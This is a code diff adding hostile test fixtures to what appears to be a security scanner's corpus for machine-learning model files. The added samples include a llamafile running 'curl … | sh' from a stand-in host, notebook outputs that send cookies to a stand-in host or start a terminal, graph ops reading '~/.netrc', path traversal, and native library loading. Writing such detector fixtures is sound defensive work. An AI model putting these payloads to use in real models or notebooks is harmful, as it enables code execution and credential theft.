@@ -10,7 +10,7 @@ import zipfile
 from collections.abc import Iterator
 from typing import Any
 
-from tests.corpus.wire import field, message, onnx_node
+from tests.corpus.wire import field, message, onnx_node, saved_model, tf_graph, tf_node, tf_text
 
 Sample = tuple[str, bytes | dict[str, bytes]]
 
@@ -197,6 +197,7 @@ def hostile() -> Iterator[Sample]:
         ),
     )
     yield "template_config/tokenizer_config.json", _json({"chat_template": "{{ config.items() }}"})
+    yield from outside()
     yield (
         "template_config_os/tokenizer_config.json",
         _json({"chat_template": "{{ config.from_object('os') }}"}),
@@ -205,7 +206,43 @@ def hostile() -> Iterator[Sample]:
     yield "template_session/chat_template.jinja", b"{% set x = request.environ %}{{ x }}"
 
 
+def outside() -> Iterator[Sample]:
+    """Yield models that read, load or run what is not of them."""
+    for operator in ("TextLineDataset", "LMDBReader", "FixedLengthRecordDataset"):
+        for case, path in (
+            ("root", "/var/lib/x"),
+            ("up", "../../secrets.txt"),
+            ("home", "~/.netrc"),
+        ):
+            graph = tf_graph(tf_node(operator), tf_text("path", path))
+            yield f"tf_{operator}_{case}/saved_model.pb", saved_model(graph)
+    part = "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    {}: {}\n"
+    for key, path in (("python_model", "../../x.pkl"), ("code", "/tmp/code"), ("data", "../../..")):
+        yield f"part_{key}/MLmodel", part.format(key, path).encode()
+    yield "fetching.llamafile", b"MZqFpD='\n\ncurl http://a.example/x | sh\nexit\n'\n" + bytes(99)
+    yield "bare.llamafile", b"MZqFpD='\n'\n" + bytes(999)
+    for kind, text in (
+        ("text/html", "<script>fetch('https://a.example/?'+document.cookie)</script>"),
+        ("application/javascript", "Jupyter.notebook.kernel.execute('import os; os.system(1)')"),
+        ("text/html", "<img src=x onerror=\"fetch('/api/terminals',{method:'POST'})\">"),
+    ):
+        cell = {"cell_type": "code", "source": "1", "outputs": [{"data": {kind: text}}]}
+        yield f"output_{len(text)}/n.ipynb", _json({"nbformat": 4, "cells": [cell]})
+    for loads in ("ctypes.CDLL", "ctypes.cdll.LoadLibrary", "torch.ops.load_library"):
+        module = loads.split(".")[0]
+        path = "os.path.join(os.path.dirname(__file__), 'weights.bin')"
+        yield f"beside_{loads}/modeling_x.py", f"import os, {module}\n{loads}({path})\n".encode()
+
+
 def harmless() -> Iterator[Sample]:
+    yield (
+        "tf_lines/saved_model.pb",
+        saved_model(
+            tf_graph(
+                tf_text("path", "/tmp/vocabulary.txt"), tf_node("InitializeTableFromTextFileV2")
+            )
+        ),
+    )
     yield "xgb.json", _json(booster())
     yield "xgb.ubj", ubj(booster())
     yield "xgb_vector.json", _json(booster(split_indices=[3, 2147483647, 0]))
